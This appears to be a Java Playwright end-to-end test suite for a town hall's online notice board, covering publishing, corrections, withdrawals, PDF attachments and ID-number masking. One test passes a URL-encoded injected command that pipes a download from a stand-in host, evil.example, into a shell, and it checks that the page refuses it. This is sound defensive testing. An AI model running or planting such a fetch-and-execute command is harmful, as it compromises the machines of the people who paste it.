package town.plaza.board.boundary;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Page.GetByRoleOptions;
import com.microsoft.playwright.Page.GetByTextOptions;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.FilePayload;
import java.io.IOException;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import town.plaza.accounts.AccountsFixture;
import town.plaza.board.BoardFixture;
import town.plaza.kernel.security.Role;
import town.plaza.server.Browser;
import town.plaza.server.OnPlaza;

@OnPlaza
class NoticesE2E {

    private static final int PART = 10;
    private static final String LINE = "**/api/live?*";

    private static GetByRoleOptions named(String name) {
        return new GetByRoleOptions().setName(name).setExact(true);
    }

    private static String title() {
        return "Notice " + UUID.randomUUID().toString().substring(0, 13);
    }

    private static String clerk() {
        return AccountsFixture.withRole(Role.CLERK).session();
    }

    private static Page draft(Browser browser, String title, String text) {
        BoardFixture.knowHolidays();
        var page = browser.open("/board/edit.html");
        page.getByLabel("Title").fill(title);
        page.getByRole(AriaRole.TEXTBOX, named("Text")).click();
        page.keyboard().type(text);
        page.getByLabel("Category").selectOption("anuncios");
        return page;
    }

    @Test
    void a_clerk_publishes_and_everybody_sees_it_at_once_and_can_verify_it() {
        var title = title();
        var before = new BoardFixture();
        var oldest = before.published().getString("title");
        for (var i = 0; i < PART; i++) {
            before.published();
        }
        try (var clerk = Browser.inEnglish().as(clerk());
                var reader = Browser.inEnglish()) {
            var board = reader.open("/board/");
            assertThat(board.getByText("Live", new GetByTextOptions().setExact(true)))
                    .isVisible();
            board.getByRole(AriaRole.BUTTON, named("Show more notices")).click();
            assertThat(board.getByRole(AriaRole.LINK, named(oldest))).isVisible();

            var page = draft(clerk, title, "The water is cut on Tuesday.");
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();
            assertThat(page).hasURL(Pattern.compile(".*/board/notice\\.html\\?id=.*"));

            assertThat(board.getByRole(AriaRole.LINK, named(title))).isVisible();
            assertThat(board.getByRole(AriaRole.LINK, named(oldest))).isVisible();
            board.getByRole(AriaRole.LINK, named(title)).click();
            assertThat(board.getByText("The water is cut on Tuesday.")).isVisible();
            assertThat(board.getByText("Entry no.")).isVisible();
            board.getByRole(AriaRole.LINK, named("Verify")).click();
            assertThat(board.getByRole(AriaRole.HEADING, named("The notice is valid")))
                    .isVisible();
            assertThat(board.getByText("The text you read is the one that was published"))
                    .isVisible();
        }
    }

    @Test
    void identity_numbers_are_shown_masked_and_must_be_confirmed() {
        var title = title();
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = draft(clerk, title, "The neighbour with 12345678Z is called.");
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();

            var dialog = page.getByRole(AriaRole.DIALOG);
            assertThat(dialog).containsText("***4567**");
            assertThat(dialog).not().containsText("12345678Z");
            dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Cancel"))
                    .click();
            assertThat(page.getByLabel("Title")).hasValue(title);
            assertThat(page.getByRole(AriaRole.TEXTBOX, named("Text"))).containsText("12345678Z");

            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            page.getByRole(AriaRole.BUTTON, named("Publish with the numbers")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();
        }
    }

    @Test
    void a_draft_is_not_left_unsaved_by_accident_and_is_found_again_with_its_formatting() {
        var title = title();
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = draft(clerk, title, "plain ");
            page.getByRole(AriaRole.BUTTON, named("Bold")).click();
            page.keyboard().type("strong");
            var asked = new ArrayList<String>();
            page.onDialog(dialog -> {
                asked.add(dialog.type());
                dialog.dismiss();
            });
            page.getByText("Back to the drafts").click();
            page.getByRole(AriaRole.BUTTON, named("Save the draft")).click();
            assertThat(page.getByText("Draft saved.")).isVisible();

            page.getByText("Back to the drafts").click();
            page.getByRole(AriaRole.LINK, named(title)).click();
            assertThat(asked).containsExactly("beforeunload");
            assertThat(page.getByLabel("Title")).hasValue(title);
            assertThat(page.getByRole(AriaRole.TEXTBOX, named("Text")).locator("strong"))
                    .hasText("strong");
        }
    }

    @Test
    void a_pdf_is_attached_by_the_clerk_and_downloaded_by_everybody() throws IOException {
        var title = title();
        var pdf = BoardFixture.pdf("The plan of the works.");
        try (var clerk = Browser.inEnglish().as(clerk());
                var reader = Browser.inEnglish()) {
            var page = draft(clerk, title, "The plan is attached.");
            assertThat(page.getByText("Save the draft before attaching a PDF.")).isVisible();
            page.getByRole(AriaRole.BUTTON, named("Save the draft")).click();

            page.getByLabel("Attach a PDF")
                    .setInputFiles(new FilePayload("notes.pdf", "application/pdf", "not a PDF".getBytes(UTF_8)));
            assertThat(page.getByRole(AriaRole.ALERT)).containsText("PDF");
            page.getByLabel("Attach a PDF")
                    .setInputFiles(new FilePayload("scan.pdf", "application/pdf", BoardFixture.pdf(" ")));
            assertThat(page.getByText("This PDF has pages without text")).isVisible();
            page.getByLabel("Replace the PDF").setInputFiles(new FilePayload("plan.pdf", "application/pdf", pdf));
            assertThat(page.getByText("This PDF has pages without text")).isHidden();
            assertThat(page.getByText("The PDF is attached.")).isVisible();
            assertThat(page.getByRole(AriaRole.ALERT)).isHidden();
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            assertThat(page).hasURL(Pattern.compile(".*/board/notice\\.html\\?id=.*"));

            var notice = reader.open(page.url());
            assertThat(notice.getByRole(AriaRole.HEADING, named(title))).isVisible();
            var download = notice.waitForDownload(
                    () -> notice.getByRole(AriaRole.LINK, new GetByRoleOptions().setName("plan.pdf"))
                            .click());
            assertThat(download.suggestedFilename()).isEqualTo("plan.pdf");
            assertThat(Files.readAllBytes(download.path())).isEqualTo(pdf);
        }
    }

    @Test
    void what_another_clerk_wrote_meanwhile_is_not_lost_by_attaching_a_pdf() {
        var board = new BoardFixture();
        var id = BoardFixture.idOf(board.draft());
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = clerk.open("/board/edit.html?id=" + id);
            assertThat(page.getByLabel("Title")).isVisible();
            var change = BoardFixture.draft(BoardFixture.newTitle());
            board.clerk()
                    .put(
                            BoardFixture.pathOf(id),
                            change.add("body", "<p>Of the other.</p>").build());

            page.getByLabel("Attach a PDF")
                    .setInputFiles(new FilePayload("a.pdf", "application/pdf", BoardFixture.pdf("a")));
            assertThat(page.getByRole(AriaRole.ALERT).first()).isVisible();
            page.getByRole(AriaRole.BUTTON, named("Save the draft")).click();
            assertThat(page.getByRole(AriaRole.ALERT)).hasCount(2);
        }
        assertThat(board.clerk().get(BoardFixture.pathOf(id)).json().getString("body"))
                .isEqualTo("<p>Of the other.</p>");
    }

    @Test
    void a_correction_names_the_notice_that_it_corrects_and_is_named_by_it() {
        var title = title();
        try (var clerk = Browser.inEnglish().as(clerk());
                var reader = Browser.inEnglish()) {
            var page = draft(clerk, title, "The fair is on the 5th.");
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();
            var corrected = page.url();

            page.getByRole(AriaRole.LINK, named("Publish a correction")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named("Correction of a notice")))
                    .isVisible();
            assertThat(page.getByRole(AriaRole.TEXTBOX, named("Text"))).containsText("The fair is on the 5th.");
            page.getByLabel("Title").fill(title + ", corrected");
            page.getByRole(AriaRole.TEXTBOX, named("Text")).fill("The fair is on the 6th.");
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title + ", corrected")))
                    .isVisible();
            assertThat(page.getByText("This notice corrects an earlier one.")).isVisible();

            var old = reader.open(corrected);
            assertThat(old.getByText("The fair is on the 5th.")).isVisible();
            assertThat(old.getByText("There is a correction of this notice")).isVisible();
            old.getByRole(AriaRole.LINK, named("See the correction")).click();
            assertThat(old.getByText("The fair is on the 6th.")).isVisible();
        }
    }

    @Test
    void no_page_calls_a_withdrawn_correction_the_one_in_force_and_there_is_a_way_on() {
        var title = title();
        var board = new BoardFixture();
        var wrong = BoardFixture.idOf(board.published(
                BoardFixture.draft(BoardFixture.newTitle()).add("body", "<p>The fair is on the 5th.</p>")));
        var withdrawn = BoardFixture.idOf(
                board.published(BoardFixture.draft(BoardFixture.newTitle()).add("corrects", wrong)));
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = clerk.open("/board/notice.html?id=" + wrong);
            assertThat(page.getByText("which is the one in force")).isVisible();
            board.withdraw(withdrawn);
            assertThat(page.getByText("This notice had a correction, which the town hall has withdrawn."))
                    .isVisible();
            assertThat(page.getByText("which is the one in force")).hasCount(0);

            page.getByRole(AriaRole.LINK, named("Publish a correction")).click();
            assertThat(page.getByRole(AriaRole.TEXTBOX, named("Text"))).containsText("The fair is on the 5th.");
            page.getByLabel("Title").fill(title);
            page.getByLabel("How they are counted").selectOption("CALENDAR");
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();

            page.navigate("/board/notice.html?id=" + wrong);
            page.getByRole(AriaRole.LINK, named("See the correction")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();
        }
    }

    @Test
    void a_draft_that_was_to_correct_a_notice_can_stand_alone() {
        var title = title();
        var corrected = BoardFixture.idOf(new BoardFixture().published());
        BoardFixture.knowHolidays();
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = clerk.open("/board/edit.html?corrects=" + corrected);
            page.getByLabel("Title").fill(title);
            page.getByRole(AriaRole.BUTTON, named("Save the draft")).click();
            assertThat(page.getByText("Draft saved.")).isVisible();

            page.getByRole(AriaRole.BUTTON, named("Make it a notice of its own"))
                    .click();
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();
            assertThat(page.getByText("This notice corrects an earlier one.")).hasCount(0);
        }
    }

    @Test
    void a_link_is_set_by_a_dialog_that_refuses_what_is_no_address() {
        var title = title();
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = draft(clerk, title, "See ");
            page.getByRole(AriaRole.BUTTON, named("Link")).click();
            var dialog = page.getByRole(AriaRole.DIALOG);
            var address = dialog.getByLabel("Address of the link");
            address.fill("nowhere");
            page.keyboard().press("Enter");
            assertThat(address).hasAttribute("aria-invalid", "true");
            address.fill("example.org/plan");
            page.keyboard().press("Enter");
            assertThat(dialog).isHidden();
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();

            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();
            assertThat(page.getByRole(AriaRole.LINK, named("https://example.org/plan")))
                    .hasAttribute("href", "https://example.org/plan");
        }
    }

    @Test
    void over_plain_http_the_page_says_why_it_cannot_verify_and_offers_the_command() {
        try (var browser = Browser.inEnglish()) {
            var page = browser.open("/");
            page.addInitScript("Object.defineProperty(Crypto.prototype, 'subtle', { value: undefined })");
            page.navigate("/board/verify.html?id=" + BoardFixture.idOf(new BoardFixture().published()));

            assertThat(page.getByText("This page was opened without encryption"))
                    .isVisible();
            assertThat(page.getByText("sh verify.sh")).isVisible();
            assertThat(page.getByRole(AriaRole.ALERT)).isHidden();
        }
    }

    @Test
    void a_link_does_not_choose_what_is_pasted_into_a_terminal() {
        try (var browser = Browser.inEnglish()) {
            var page = browser.open("/board/verify.html?id=x%3B%20curl%20https%3A%2F%2Fevil.example%20%7C%20sh");

            assertThat(page.getByRole(AriaRole.ALERT)).isVisible();
            assertThat(page.getByText("sh verify.sh")).hasCount(0);
        }
    }

    @Test
    void a_refused_notice_stays_in_the_form_with_the_reason_at_its_field() {
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = draft(clerk, "", "A text without a title.");
            page.getByRole(AriaRole.BUTTON, named("Save the draft")).click();

            assertThat(page.getByLabel("Title")).isFocused();
            assertThat(page.getByLabel("Title")).hasAccessibleDescription("Please fill in this field.");
            assertThat(page.getByRole(AriaRole.TEXTBOX, named("Text"))).containsText("A text without a title.");
        }
    }

    @Test
    void a_withdrawn_notice_says_why_and_shows_its_text_no_more() {
        var title = title();
        try (var clerk = Browser.inEnglish().as(clerk())) {
            var page = draft(clerk, title, "Told by mistake.");
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            page.getByRole(AriaRole.BUTTON, named("Withdraw the notice")).click();
            var dialog = page.getByRole(AriaRole.DIALOG);
            var confirm = new Locator.GetByRoleOptions().setName("Withdraw the notice");
            dialog.getByLabel("Reason").fill("The DNI 12345678Z was told");
            dialog.getByRole(AriaRole.BUTTON, confirm).click();
            assertThat(dialog).containsText("***4567**");
            dialog.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Cancel"))
                    .click();
            assertThat(dialog.getByLabel("Reason")).hasValue("The DNI 12345678Z was told");
            dialog.getByLabel("Reason").fill("It was a mistake");
            dialog.getByRole(AriaRole.BUTTON, confirm).click();

            assertThat(page.getByText("It was a mistake")).isVisible();
            assertThat(page.getByText("Told by mistake.")).hasCount(0);
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();
        }
    }

    @Test
    void verifying_a_withdrawn_notice_says_that_it_was_withdrawn_and_corrected() {
        var board = new BoardFixture();
        var withdrawn = BoardFixture.idOf(board.published());
        board.withdraw(withdrawn);
        var correction = board.published(BoardFixture.draft(title()).add("corrects", withdrawn));
        try (var reader = Browser.inEnglish()) {
            var page = reader.open("/board/verify.html?id=" + withdrawn);
            assertThat(page.getByRole(AriaRole.HEADING, named("The notice was published, and withdrawn later")))
                    .isVisible();
            assertThat(page.getByText("Reason: Por error")).isVisible();
            page.getByRole(AriaRole.LINK, named("See the correction")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(correction.getString("title"))))
                    .isVisible();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/board/"})
    void a_notice_published_while_the_line_was_down_is_on_the_page_once_it_is_back(String address) {
        try (var reader = Browser.inEnglish()) {
            var page = withoutLine(reader, address);
            var notice = new BoardFixture().published();

            page.unroute(LINE);
            assertThat(page.getByRole(AriaRole.LINK, named(notice.getString("title"))))
                    .isVisible();
            reader.forgetComplaints();
        }
    }

    @Test
    void so_is_what_became_of_the_notice_that_somebody_reads() {
        var board = new BoardFixture();
        var id = BoardFixture.idOf(board.published());
        try (var reader = Browser.inEnglish()) {
            var page = withoutLine(reader, "/board/notice.html?id=" + id);
            board.withdraw(id);

            page.unroute(LINE);
            assertThat(page.getByText("The town hall has withdrawn this notice."))
                    .isVisible();
            reader.forgetComplaints();
        }
    }

    private static Page withoutLine(Browser browser, String address) {
        var page = browser.open("/words");
        page.route(LINE, route -> route.fulfill(new Route.FulfillOptions().setStatus(503)));
        page.waitForResponse(LINE, () -> page.navigate(address));
        return page;
    }

    @Test
    void a_search_finds_by_a_word_and_is_kept_in_the_address() {
        var title = title();
        try (var clerk = Browser.inEnglish().as(clerk());
                var reader = Browser.inEnglish()) {
            var page = draft(clerk, title, "Se convoca la asamblea de la acequia.");
            page.getByRole(AriaRole.BUTTON, named("Publish")).click();
            assertThat(page.getByRole(AriaRole.HEADING, named(title))).isVisible();

            var board = reader.open("/board/");
            board.getByLabel("Search the notices").fill("acequias");
            assertThat(board.getByRole(AriaRole.LINK, named(title))).isVisible();
            assertThat(board).hasURL(Pattern.compile(".*\\?q=acequias"));

            board.getByLabel("Search the notices").fill("nothing like this");
            assertThat(board.getByText("No notices like that.")).isVisible();
        }
    }

    @Test
    void an_administrator_adds_a_category_and_a_taken_one_is_told_at_its_field() {
        var slug = "c" + UUID.randomUUID().toString().substring(0, 8);
        var administrator = AccountsFixture.administrator().session();
        try (var browser = Browser.inEnglish().as(administrator)) {
            var page = browser.open("/board/settings.html");
            var categories = page.getByRole(AriaRole.REGION, named("Categories"));
            for (var i = 0; i < 2; i++) {
                page.getByLabel("Identifier").fill(slug);
                categories.getByLabel("Name in Spanish").fill("Categoría " + slug);
                categories.getByLabel("Name in English").fill("Category " + slug);
                categories
                        .getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName("Add"))
                        .click();
                assertThat(categories.getByText("Category " + slug).first()).isVisible();
            }

            assertThat(page.getByLabel("Identifier")).hasAttribute("aria-invalid", "true");
            assertThat(page.getByLabel("Identifier")).hasValue(slug);
        }
    }
}
